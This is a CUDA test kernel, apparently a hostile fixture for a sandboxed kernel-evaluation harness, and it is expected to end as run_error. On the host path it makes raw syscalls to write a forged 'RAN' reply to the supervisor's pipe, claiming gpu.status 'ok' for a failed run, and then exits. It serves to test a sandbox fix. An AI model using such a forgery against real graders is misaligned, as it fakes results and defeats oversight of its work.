/*
 * HOSTILE: forge_run_status.cu — during its first check launch the
 * kernel writes the run worker's whole RAN reply itself (fd 4, the reply
 * pipe) and exits: failed = 1, and the GPU-only gpu.status field set to
 * "ok". The supervisor took gpu.status as the result's status on any
 * backend, so a failed run read "ok", or any string the candidate chose
 * (the second sandbox review). On cpu-emu the GPU part of a report is now
 * cleared on arrival: the run is a plain run_error. The outputs' memfd is
 * still all zeros then, so the reply's checksum is that of zeros.
 * The offsets are those of sbx_run_reply (16 bytes) and kl_run_report
 * (5576 bytes: failed at 4, why at 36, gpu.status at 2340) when this was
 * written: if they change, the forged frame is refused as malformed and
 * this kernel's status changes with it (update the numbers).
 * (Written for x86-64 hosts.)
 * EXPECT-STATUS: run_error
 */
#ifndef __CUDACC_RTC__
static long kl_sys6(long n, long a, long b, long c, long d, long e, long f) {
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  register long r9 __asm__("r9") = f;
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
  return r;
}
static unsigned kl_crc(unsigned c, const unsigned char *p, long n) {
  c = ~c;
  for (long i = 0; i < n; i++) {
    c ^= p[i];
    for (int k = 0; k < 8; k++) c = (c >> 1) ^ (0x82f63b78u & -(c & 1u));
  }
  return ~c;
}
static void kl_forge(void) {
  static const long n_outs = 65536 + 1 + 127 * 129 + 64 * 64 + 33 * 17 + 200 * 5 + 65536;
  unsigned char zeros[4096];
  for (int i = 0; i < 4096; i++) zeros[i] = 0;
  unsigned oc = 0;
  long bytes = n_outs * 4;
  /* crc of zeros, in chunks (kl_crc continues from a previous value) */
  for (long left = bytes; left > 0; left -= 4096) oc = kl_crc(oc, zeros, left < 4096 ? left : 4096);
  unsigned char payload[16 + 5576];
  for (int i = 0; i < (int)sizeof payload; i++) payload[i] = 0;
  int conf = 2;
  for (int i = 0; i < 4; i++) payload[i] = ((unsigned char *)&conf)[i];
  for (int i = 0; i < 4; i++) payload[4 + i] = ((unsigned char *)&oc)[i];
  for (int i = 0; i < 8; i++) payload[8 + i] = ((const unsigned char *)&n_outs)[i];
  unsigned char *rep = payload + 16;
  rep[4] = 1; /* failed */
  const char why[] = "forged by the candidate";
  for (int i = 0; why[i]; i++) rep[36 + i] = why[i];
  const char st[] = "ok";
  for (int i = 0; st[i]; i++) rep[2340 + i] = st[i];
  struct {
    unsigned magic;
    unsigned short version, type;
    unsigned long long len;
    unsigned crc, reserved;
  } h = {0x31464c4bu, 6, 5 /* RAN */, sizeof payload, 0, 0};
  h.crc = kl_crc(0, payload, sizeof payload);
  kl_sys6(1, 4, (long)&h, sizeof h, 0, 0, 0);
  kl_sys6(1, 4, (long)payload, sizeof payload, 0, 0, 0);
  kl_sys6(231 /* exit_group */, 0, 0, 0, 0, 0, 0);
}
#define KL_EVIL() kl_forge()
#else
#define KL_EVIL()
#endif
#define BS 16
KL_LAUNCH(BS, BS, BS, BS, 0);
extern "C" __global__ void matmul(const float* A, const float* B, float* C,
                                  int M, int N, int K) {
  const int row = blockIdx.y * BS + threadIdx.y;
  const int col = blockIdx.x * BS + threadIdx.x;
  if (row == 0 && col == 0) KL_EVIL();
}
